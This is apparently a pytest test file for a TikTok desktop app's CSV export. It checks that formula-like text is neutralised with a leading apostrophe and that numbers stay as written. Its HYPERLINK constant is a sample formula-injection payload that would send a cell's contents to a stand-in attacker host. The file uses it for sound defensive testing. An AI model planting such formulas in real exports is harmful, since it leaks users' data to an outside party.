"""CSV formula injection: text from TikTok that a spreadsheet would read as a formula is neutralised the way
OWASP recommends (a leading apostrophe); numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tiktok_desktop.app.export import CSV_COLUMNS, export_csv
from tiktok_desktop.core.models import Video

TEXT_COLUMNS = ("video_id", "title", "description", "share_url", "cover_url")
HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1, "Click me")'


def read(out: Path) -> list[dict[str, str]]:
    with out.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_first_character_is_neutralised_in_every_text_column(first: str, tmp_path: Path) -> None:
    texts = {name: f"{first}1+1 {name}" for name in TEXT_COLUMNS}
    video = Video(
        texts["video_id"],
        1_700_000_000,
        texts["title"],
        texts["description"],
        12,
        1000,
        50,
        0,
        0,
        cover_url=texts["cover_url"],
        share_url=texts["share_url"],
    )
    out = tmp_path / "v.csv"
    export_csv([video], out)
    (row,) = read(out)
    for name in TEXT_COLUMNS:
        assert row[name] == "'" + texts[name], name  # the apostrophe, then the text exactly as it was


def test_a_hyperlink_title_reads_back_as_text(tmp_path: Path) -> None:
    video = Video("7312345678901234567", 1_700_000_000, HYPERLINK, "-5 kg in a week? #diet", 12, 1000, 50, 0, 0)
    out = tmp_path / "v.csv"
    export_csv([video], out)
    (row,) = read(out)
    assert row["title"] == "'" + HYPERLINK
    assert row["title"][1:] == video.title  # otherwise identical
    assert row["description"] == "'-5 kg in a week? #diet"


def test_safe_text_and_numbers_are_written_as_they_are(tmp_path: Path) -> None:
    safe = Video(
        "7312345678901234567",
        1_700_000_000,
        "Tomato 1+1=2 @home",  # dangerous characters, but not first
        " =not first",  # a leading space: not a formula
        61,
        1000,
        40,
        7,
        3,
        saves=0,
        share_url="https://www.tiktok.com/@chef/video/1",
        cover_url="",
    )
    zero = Video("2", 0, "", "", 0, 0, 0, 0, 0)
    out = tmp_path / "v.csv"
    export_csv([safe, zero], out)
    first, second = read(out)
    assert first["video_id"] == "7312345678901234567"
    assert first["published_at"] == "2023-11-14T22:13:20Z"
    assert first["title"] == "Tomato 1+1=2 @home" and first["description"] == " =not first"
    assert first["share_url"] == "https://www.tiktok.com/@chef/video/1" and first["cover_url"] == ""
    assert first["duration_s"] == "61" and first["views"] == "1000" and first["saves"] == "0"
    assert first["engagement_rate_pct"] == "5.00"
    assert second["title"] == "" and second["engagement_rate_pct"] == ""


def test_a_negative_number_stays_a_number(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # numeric columns can be negative (views_per_day when a count was corrected downwards): never prefixed
    from tiktok_desktop.app import export

    def values(v: Video, dashboard: object = None) -> list[object]:
        text = {"video_id": v.video_id, "title": v.title, "description": "", "share_url": "", "cover_url": ""}
        return [
            text[name] if name in text else v.published_at if name == "published_at" else -1.5 if "_" in name else -7
            for name in CSV_COLUMNS
        ]

    monkeypatch.setattr(export, "video_values", values)
    out = tmp_path / "v.csv"
    export_csv([Video("1", 0, "-title", "", 0, 0, 0, 0, 0)], out)
    (row,) = read(out)
    assert row["title"] == "'-title"
    numeric = [name for name in CSV_COLUMNS if name not in TEXT_COLUMNS and name != "published_at"]
    assert all(row[name].startswith("-") and float(row[name]) < 0 for name in numeric), row
    assert row["views"] == "-7" and row["est_bounce_rate_pct"] == "-1.50"
